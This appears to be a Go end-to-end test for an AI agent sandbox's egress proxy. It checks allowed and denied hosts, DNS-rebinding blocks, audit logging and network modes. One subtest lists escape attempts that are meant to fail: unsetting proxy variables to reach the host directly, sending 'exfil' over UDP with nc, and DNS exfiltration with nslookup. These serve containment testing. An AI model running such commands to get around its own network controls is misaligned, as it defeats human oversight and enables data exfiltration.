@@ -1,0 +1,225 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// testInternet is the e2e tests' "internet": servers on this machine's
+// loopback. Rootless pods reach the host's loopback at 10.0.2.2 only with
+// [network] host_loopback = true, and only from the pod's network namespace
+// (the proxy), never from the agent's.
+type testInternet struct {
+	tls, plain *httptest.Server
+	tlsPort    int
+	plainPort  int
+	udpPort    int
+	hits       atomic.Int64 // requests that reached a server
+	udpHits    atomic.Int64
+}
+
+func startInternet(t *testing.T) *testInternet {
+	t.Helper()
+	in := &testInternet{}
+	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		in.hits.Add(1)
+		fmt.Fprintf(w, "hello from %s%s", r.Host, r.URL.Path)
+	})
+	in.tls = httptest.NewTLSServer(handler)
+	in.plain = httptest.NewServer(handler)
+	t.Cleanup(in.tls.Close)
+	t.Cleanup(in.plain.Close)
+	in.tlsPort = port(t, in.tls.URL)
+	in.plainPort = port(t, in.plain.URL)
+	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { udp.Close() })
+	in.udpPort = udp.LocalAddr().(*net.UDPAddr).Port
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			in.udpHits.Add(1)
+		}
+	}()
+	return in
+}
+
+func port(t *testing.T, raw string) int {
+	u, err := url.Parse(raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, p, _ := net.SplitHostPort(u.Host)
+	var n int
+	fmt.Sscan(p, &n)
+	return n
+}
+
+// TestE2EEgress attacks the proxy and the agent's network from inside the
+// agent.
+func TestE2EEgress(t *testing.T) {
+	e2e(t)
+	inet := startInternet(t)
+	cfg := standInConfig(t, fmt.Sprintf(`[network]
+host_loopback = true
+no_default_allow = true
+allow = ["api.allowed.test:%d", "plain.allowed.test:%d", "rebind.test:3129", "10.0.2.2"]
+extra_hosts = ["api.allowed.test:10.0.2.2", "plain.allowed.test:10.0.2.2", "denied.test:10.0.2.2", "rebind.test:127.0.0.1"]
+`, inet.tlsPort, inet.plainPort))
+	name := uniqueName("e2e-net")
+	cleanup(t, name)
+	up := mustDevaipod(t, nil, "--config", cfg, "up", fixtureRepo(t), "--name", name)
+	if !strings.Contains(up.stderr, "checking the agent's containment") {
+		t.Errorf("up did not run its containment check:\n%s", up)
+	}
+	agent := func(script string) result {
+		return devaipod(t, nil, "exec", name, "-c", "agent", "--", "sh", "-c", script)
+	}
+	tlsURL := fmt.Sprintf("https://api.allowed.test:%d/hello", inet.tlsPort)
+	deniedTLS := fmt.Sprintf("https://denied.test:%d/", inet.tlsPort)
+	deniedPlain := fmt.Sprintf("http://denied.test:%d/", inet.plainPort)
+
+	t.Run("allowed host over HTTPS via CONNECT", func(t *testing.T) {
+		r := agent("curl -sSk " + tlsURL)
+		if r.stdout != fmt.Sprintf("hello from api.allowed.test:%d/hello", inet.tlsPort) {
+			t.Errorf("%s", r)
+		}
+	})
+	t.Run("allowed host over plain HTTP", func(t *testing.T) {
+		r := agent(fmt.Sprintf("curl -sS http://plain.allowed.test:%d/x", inet.plainPort))
+		if !strings.HasPrefix(r.stdout, "hello from plain.allowed.test") {
+			t.Errorf("%s", r)
+		}
+	})
+	t.Run("host off the list gets 403 with the reason", func(t *testing.T) {
+		r := agent("curl -sS " + deniedPlain)
+		for _, want := range []string{"devaipod proxy", "denied.test", "devaipod allow " + name} {
+			if !strings.Contains(r.stdout, want) {
+				t.Errorf("plain HTTP denial lacks %q: %s", want, r)
+			}
+		}
+		r = agent("curl -sk -o /dev/null -w '%{http_connect}' " + deniedTLS)
+		if r.stdout != "403" {
+			t.Errorf("CONNECT to a denied host answered %q: %s", r.stdout, r)
+		}
+	})
+	t.Run("IP literal and private addresses get 403", func(t *testing.T) {
+		// 127.0.0.1:3129 through the proxy is the pod's own loopback (the
+		// workspace's canary): an IP literal no rule names.
+		r := agent("curl -s -o /dev/null -w '%{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:3129/")
+		if r.stdout != "403" {
+			t.Errorf("IP literal: %q %s", r.stdout, r)
+		}
+		// rebind.test is allowed by name but resolves to 127.0.0.1.
+		r = agent("curl -s --noproxy '' -x http://127.0.0.1:3128 http://rebind.test:3129/; curl -sk -o /dev/null -w '%{http_connect}' https://rebind.test:3129/")
+		if !strings.Contains(r.stdout, "403") && !strings.Contains(r.stdout, "private") {
+			t.Errorf("name resolving to loopback: %s", r)
+		}
+	})
+	t.Run("no way around the proxy", func(t *testing.T) {
+		before, udpBefore := inet.hits.Load(), inet.udpHits.Load()
+		attacks := []string{
+			fmt.Sprintf("env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --max-time 3 http://10.0.2.2:%d/", inet.plainPort),
+			fmt.Sprintf("curl -sS --max-time 3 --noproxy '*' -k https://10.0.2.2:%d/", inet.tlsPort),
+			fmt.Sprintf("echo exfil | busybox nc -u -w 1 10.0.2.2 %d", inet.udpPort),
+			"busybox nslookup exfil.test 10.0.2.2",
+			fmt.Sprintf("curl -6 -sS --max-time 3 --noproxy '*' http://[fd00::2]:%d/", inet.plainPort),
+		}
+		for _, a := range attacks {
+			if r := agent(a); r.code == 0 {
+				t.Errorf("attack succeeded: %s\n%s", a, r)
+			}
+		}
+		if r := agent("cat /proc/net/route /proc/net/ipv6_route | grep -v '^Iface' | grep -v ' lo$' | grep -vi 'lo *$' | head"); strings.TrimSpace(r.stdout) != "" {
+			t.Errorf("agent has routes: %s", r.stdout)
+		}
+		time.Sleep(500 * time.Millisecond)
+		if inet.hits.Load() != before || inet.udpHits.Load() != udpBefore {
+			t.Errorf("a direct attack reached the test's servers (http %d->%d, udp %d->%d)", before, inet.hits.Load(), udpBefore, inet.udpHits.Load())
+		}
+	})
+	t.Run("allow and deny change the policy without a restart", func(t *testing.T) {
+		rule := fmt.Sprintf("denied.test:%d", inet.tlsPort)
+		mustDevaipod(t, nil, "allow", name, rule)
+		if r := agent("curl -sSk " + deniedTLS); !strings.HasPrefix(r.stdout, "hello from denied.test") {
+			t.Errorf("after allow: %s", r)
+		}
+		mustDevaipod(t, nil, "deny", name, rule)
+		if r := agent("curl -sk -o /dev/null -w '%{http_connect}' " + deniedTLS); r.stdout != "403" {
+			t.Errorf("after deny: %s", r)
+		}
+		if r := devaipod(t, nil, "allow", name, "bad rule/x"); r.code == 0 {
+			t.Errorf("a malformed rule was accepted: %s", r)
+		}
+	})
+	t.Run("every decision is audited", func(t *testing.T) {
+		r := mustDevaipod(t, nil, "audit", name, "-o", "json")
+		var allowed, denied bool
+		for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
+			var rec auditRecord
+			if err := json.Unmarshal([]byte(line), &rec); err != nil {
+				t.Fatalf("audit line %q: %v", line, err)
+			}
+			if rec.Host == "api.allowed.test" && rec.Decision == "allow" && rec.BytesDown > 0 && rec.Rule != "" {
+				allowed = true
+			}
+			if rec.Host == "denied.test" && rec.Decision == "deny" && rec.Reason != "" {
+				denied = true
+			}
+		}
+		if !allowed || !denied {
+			t.Errorf("audit lacks the allowed CONNECT (%v) or the denial (%v):\n%s", allowed, denied, r.stdout)
+		}
+		r = mustDevaipod(t, nil, "audit", name, "--denied")
+		if strings.Contains(r.stdout, "\tallow\t") || strings.Contains(r.stdout, " allow ") || !strings.Contains(r.stdout, "deny") {
+			t.Errorf("audit --denied:\n%s", r.stdout)
+		}
+	})
+}
+
+// TestE2ENetworkModes checks mode = "none" (no way out at all) and
+// mode = "open" (warned about).
+func TestE2ENetworkModes(t *testing.T) {
+	e2e(t)
+	inet := startInternet(t)
+	for _, mode := range []string{"none", "open"} {
+		t.Run(mode, func(t *testing.T) {
+			name := uniqueName("e2e-" + mode)
+			cleanup(t, name)
+			cfg := standInConfig(t, "[network]\nhost_loopback = true\nmode = \""+mode+"\"\n")
+			up := mustDevaipod(t, nil, "--config", cfg, "up", fixtureRepo(t), "--name", name)
+			r := devaipod(t, nil, "exec", name, "-c", "agent", "--", "sh", "-c",
+				fmt.Sprintf("printenv HTTPS_PROXY; curl -sS --max-time 3 http://10.0.2.2:%d/", inet.plainPort))
+			switch mode {
+			case "none":
+				if r.code == 0 || strings.Contains(r.stdout, "127.0.0.1:3128") {
+					t.Errorf("mode none: the agent got out or has a proxy: %s", r)
+				}
+				if a := devaipod(t, nil, "audit", name); a.code == 0 {
+					t.Errorf("audit of a pod without proxy succeeded: %s", a)
+				}
+			case "open":
+				if !strings.Contains(up.stderr, "egress is unrestricted") {
+					t.Errorf("mode open: no warning:\n%s", up)
+				}
+				if !strings.HasPrefix(r.stdout, "hello from") {
+					t.Errorf("mode open: the agent cannot reach the network: %s", r)
+				}
+			}
+		})
+	}
+}
+
